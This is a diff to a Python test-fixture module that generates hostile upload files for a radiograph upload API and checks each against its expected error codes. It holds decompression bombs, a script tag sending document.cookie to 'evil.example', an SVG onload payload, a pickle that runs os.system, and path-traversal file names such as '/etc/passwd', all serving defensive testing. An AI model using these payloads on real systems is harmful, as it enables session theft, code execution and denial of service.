@@ -1,4 +1,4 @@
-"""Files nobody should send: bombs, liars and cripples, each with the codes that are a right answer to it."""
+"""Hostile and damaged upload files, each with the error codes that are a correct response to it."""
 
 from __future__ import annotations
 
@@ -28,69 +28,71 @@ SIGNATURE: Final = b"\x89PNG\r\n\x1a\n"
 
 
 @dataclass(frozen=True)
-class Hostile:
-    """One file, under a name, and the endings that are right for it."""
+class HostileFile:
+    """One file, its file name, and the outcomes that are allowed for it."""
 
-    what: str
+    label: str
     content: bytes
-    right: frozenset[str]
+    allowed: frozenset[str]
     name: str = "radiograph"
 
 
 @dataclass(frozen=True)
 class Reply:
-    """What the upload endpoint answered: ACCEPTED or the code of a refusal."""
+    """The response of the upload endpoint: its outcome is ACCEPTED or an error code."""
 
     status: int
-    ending: str
+    outcome: str
     seconds: float = 0.0
 
 
 def send(base_url: str, token: str, content: bytes, name: str = "radiograph", patient: str = "H-1") -> Reply:
-    """Send a file as a script would, under any name whatever; urllib would tidy the name up."""
+    """Upload a file by API under any file name; urllib would normalise the name."""
     head = f'--x\r\nContent-Disposition: form-data; name="patient_ref"\r\n\r\n{patient}\r\n--x\r\n'
     head += f'Content-Disposition: form-data; name="radiograph"; filename="{name}"\r\n\r\n'
     body = head.encode("utf-8", "surrogateescape") + content + b"\r\n--x--\r\n"
-    at = urlsplit(base_url)
-    line = http.client.HTTPConnection(at.hostname or "", at.port, timeout=120)
+    url = urlsplit(base_url)
+    connection = http.client.HTTPConnection(url.hostname or "", url.port, timeout=120)
     headers = {"Authorization": f"Token {token}", "Content-Type": "multipart/form-data; boundary=x"}
     try:
-        line.request("POST", "/api/v1/cases/", body, headers)
-        answer = line.getresponse()
-        return Reply(answer.status, _ending(answer.status, answer.read()))
+        connection.request("POST", "/api/v1/cases/", body, headers)
+        response = connection.getresponse()
+        return Reply(response.status, _outcome(response.status, response.read()))
     finally:
-        line.close()
+        connection.close()
 
 
-def _ending(status: int, body: bytes) -> str:
-    said: dict[str, Any] = json.loads(body)
+def _outcome(status: int, body: bytes) -> str:
+    data: dict[str, Any] = json.loads(body)
     if status in (200, 201):
         return ACCEPTED
-    assert set(said) >= {"code", "detail"}, said
-    return str(said["code"])
+    assert set(data) >= {"code", "detail"}, data
+    return str(data["code"])
 
 
-def specimens(*, inflated: int = 64 * MEGABYTE) -> Iterator[Hostile]:
-    """Give one of each kind; `inflated` is how large the deflated ones become."""
-    yield from _bombs(inflated)
-    yield from _cripples()
-    yield from _masks()
-    yield from _names()
+def specimens(*, inflated: int = 64 * MEGABYTE) -> Iterator[HostileFile]:
+    """Yield one file of each kind; `inflated` is the size of the compressed ones after inflation."""
+    yield from _decompression_bombs(inflated)
+    yield from _damaged_files()
+    yield from _disguised_files()
+    yield from _file_names()
 
 
-def _bombs(inflated: int) -> Iterator[Hostile]:
+def _decompression_bombs(inflated: int) -> Iterator[HostileFile]:
     many = "too_many_pixels"
-    yield hostile("a PNG of 13,000 x 13,000 pixels", png(13_000, 13_000), many)
-    yield hostile("a PNG of 2 billion by 2 billion", png(2**31 - 1, 2**31 - 1, rows=1), many, "damaged")
-    yield hostile(
-        "a PNG that holds far more than it says", png(96, 96, rows=inflated // 97), "damaged", "blank"
+    yield hostile_file("a PNG of 13,000 x 13,000 pixels", png(13_000, 13_000), many)
+    yield hostile_file("a PNG of 2 billion by 2 billion", png(2**31 - 1, 2**31 - 1, rows=1), many, "damaged")
+    yield hostile_file(
+        "a PNG with more rows than its header says", png(96, 96, rows=inflated // 97), "damaged", "blank"
     )
-    yield hostile("a PNG with a text that inflates", _text_bomb(inflated), "damaged", ACCEPTED)
-    yield hostile("a JPEG of 65,500 x 65,500 pixels", _huge_jpeg(), many, "damaged")
-    yield hostile("a deflated DICOM", deflated_dicom(inflated), "deflated_dicom")
-    yield hostile("an RLE DICOM of 60,000 x 60,000", rle_dicom(60_000, 60_000), many)
-    yield hostile("an RLE DICOM of 6,000 x 6,000 and no data", rle_dicom(6_000, 6_000), "damaged", "blank")
-    yield hostile(
+    yield hostile_file("a PNG with a text that inflates", _text_bomb(inflated), "damaged", ACCEPTED)
+    yield hostile_file("a JPEG of 65,500 x 65,500 pixels", _huge_jpeg(), many, "damaged")
+    yield hostile_file("a deflated DICOM", deflated_dicom(inflated), "deflated_dicom")
+    yield hostile_file("an RLE DICOM of 60,000 x 60,000", rle_dicom(60_000, 60_000), many)
+    yield hostile_file(
+        "an RLE DICOM of 6,000 x 6,000 and no data", rle_dicom(6_000, 6_000), "damaged", "blank"
+    )
+    yield hostile_file(
         "a DICOM of 6,000 x 6,000 and no data",
         radiograph_dicom(1, SMALL, Rows=6_000, Columns=6_000),
         "damaged",
@@ -99,12 +101,12 @@ def _bombs(inflated: int) -> Iterator[Hostile]:
         radiograph_dicom(1, SMALL)[:-4]
         + b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff" * 9_000
     )
-    yield hostile("a DICOM of sequences within sequences", nested, "damaged", "no_pixels", ACCEPTED)
-    yield hostile("70 MB", radiograph_png(1, SMALL) + bytes(70 * MEGABYTE), "too_large")
+    yield hostile_file("a DICOM of sequences within sequences", nested, "damaged", "no_pixels", ACCEPTED)
+    yield hostile_file("70 MB", radiograph_png(1, SMALL) + bytes(70 * MEGABYTE), "too_large")
 
 
-def _cripples() -> Iterator[Hostile]:
-    yield hostile("nothing", b"", "empty_file")
+def _damaged_files() -> Iterator[HostileFile]:
+    yield hostile_file("nothing", b"", "empty_file")
     for kind, radiograph in (
         ("PNG", radiograph_png(2)),
         ("JPEG", radiograph_jpeg(2)),
@@ -112,8 +114,8 @@ def _cripples() -> Iterator[Hostile]:
     ):
         for share in (0.02, 0.3, 0.9):
             cut = radiograph[: int(len(radiograph) * share)]
-            # A JPEG lacks only its last rows then, and some writers forget the end; the decoder says which.
-            yield hostile(
+            # A JPEG may lack only its last rows, which some encoders cause too; the decoder decides.
+            yield hostile_file(
                 f"{share:.0%} of a {kind}",
                 cut,
                 "damaged",
@@ -121,16 +123,16 @@ def _cripples() -> Iterator[Hostile]:
                 "no_pixels",
                 "unsupported_encoding",
             )
-    yield hostile("a DICOM of three frames", radiograph_dicom(3, SMALL, NumberOfFrames=3), "multi_frame")
-    yield hostile("an animated PNG", _animated(), "animated")
-    yield hostile("a white PNG", png(96, 96, rows=96), "blank")
-    yield hostile("a PNG of 8 x 8", radiograph_png(1, (8, 8)), "too_small")
-    yield hostile("a CT slice", radiograph_dicom(1, SMALL, modality="CT"), "not_an_xray_modality")
+    yield hostile_file("a DICOM of three frames", radiograph_dicom(3, SMALL, NumberOfFrames=3), "multi_frame")
+    yield hostile_file("an animated PNG", _animated(), "animated")
+    yield hostile_file("a white PNG", png(96, 96, rows=96), "blank")
+    yield hostile_file("a PNG of 8 x 8", radiograph_png(1, (8, 8)), "too_small")
+    yield hostile_file("a CT slice", radiograph_dicom(1, SMALL, modality="CT"), "not_an_xray_modality")
 
 
-def _masks() -> Iterator[Hostile]:
+def _disguised_files() -> Iterator[HostileFile]:
     script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
-    for what, head in (
+    for label, content in (
         ("an SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
         ("an HTML page", b"<!doctype html>" + script),
         ("a GIF", b"GIF89a/*" + script),
@@ -139,17 +141,17 @@ def _masks() -> Iterator[Hostile]:
         ("a pickle", b"\x80\x04cos\nsystem\n(S'id'\ntR."),
         ("a ZIP", b"PK\x03\x04" + bytes(200)),
     ):
-        yield hostile(what, head, "unknown_format")
-    # Sound radiographs that are something else as well: taken in, and only our own copy is ever shown.
-    yield hostile("a PNG with a page behind it", radiograph_png(4) + script, ACCEPTED)
-    yield hostile("a JPEG with a page behind it", radiograph_jpeg(5) + script, ACCEPTED)
+        yield hostile_file(label, content, "unknown_format")
+    # Valid radiographs that are another format as well: accepted, and only our own rendering is served.
+    yield hostile_file("a PNG with a page behind it", radiograph_png(4) + script, ACCEPTED)
+    yield hostile_file("a JPEG with a page behind it", radiograph_jpeg(5) + script, ACCEPTED)
     page = b"<html>" + script
-    yield hostile("a DICOM with a page before it", page + radiograph_dicom(6)[len(page) :], ACCEPTED)
-    yield hostile("a DICOM that begins as a JPEG", b"\xff\xd8\xff" + radiograph_dicom(7)[3:], "damaged")
-    yield hostile("a DICOM that begins as a PNG", SIGNATURE + radiograph_dicom(7)[8:], "damaged")
+    yield hostile_file("a DICOM with a page before it", page + radiograph_dicom(6)[len(page) :], ACCEPTED)
+    yield hostile_file("a DICOM that begins as a JPEG", b"\xff\xd8\xff" + radiograph_dicom(7)[3:], "damaged")
+    yield hostile_file("a DICOM that begins as a PNG", SIGNATURE + radiograph_dicom(7)[8:], "damaged")
 
 
-def _names() -> Iterator[Hostile]:
+def _file_names() -> Iterator[HostileFile]:
     names = (
         *("../../../../etc/cron.d/x", "..\\..\\x.png", "/etc/passwd", "a\tb\x07.png", "x" * 5_000, ".", ".."),
         *(
@@ -161,8 +163,8 @@ def _names() -> Iterator[Hostile]:
         ),
     )
     for number, name in enumerate(names):
-        # Django finds no file in a part without a name, and reads no part whose head is too long.
-        yield Hostile(
+        # Django ignores a part without a file name and rejects a part with too long a header.
+        yield HostileFile(
             f"the name {name[:30]!r}",
             radiograph_png(100 + number),
             frozenset({ACCEPTED, "invalid", "parse_error"}),
@@ -171,7 +173,7 @@ def _names() -> Iterator[Hostile]:
 
 
 def png(width: int, height: int, *, rows: int | None = None) -> bytes:
-    """Write a white grey PNG by hand; `rows` is how many there really are."""
+    """Return a white greyscale PNG; `rows` is the real number of rows when the header is wrong."""
     deflate = zlib.compressobj(9)
     row, packed = b"\0" + b"\xff" * min(width, 13_000), bytearray()
     for _ in range(height if rows is None else rows):
@@ -209,7 +211,7 @@ def _huge_jpeg() -> bytes:
 
 
 def deflated_dicom(inflated: int) -> bytes:
-    """Give a DICOM file of a few hundred kilobytes whose data set is that large."""
+    """Return a DICOM file of a few hundred kilobytes whose data set inflates to that size."""
     meta = FileMetaDataset()
     meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.1.1"
     meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=["bomb"])
@@ -221,7 +223,7 @@ def deflated_dicom(inflated: int) -> bytes:
 
 
 def rle_dicom(rows: int, columns: int) -> bytes:
-    """Give an RLE DICOM whose header promises that many pixels and whose data holds none."""
+    """Return an RLE DICOM file whose header declares that many pixels and whose data holds none."""
     radiograph = pydicom.dcmread(io.BytesIO(radiograph_dicom(1, SMALL)))
     radiograph.file_meta.TransferSyntaxUID = RLELossless
     radiograph.PixelData = encapsulate([struct.pack("<16I", 2, 64, 66, *[0] * 13) + b"\x81\0\x81\0"])
@@ -239,6 +241,6 @@ def _animated() -> bytes:
     return out.getvalue()
 
 
-def hostile(what: str, content: bytes, *right: str) -> Hostile:
-    """Describe one file by its content and the right endings."""
-    return Hostile(what, content, frozenset(right))
+def hostile_file(label: str, content: bytes, *allowed: str) -> HostileFile:
+    """Return a file with its allowed outcomes."""
+    return HostileFile(label, content, frozenset(allowed))
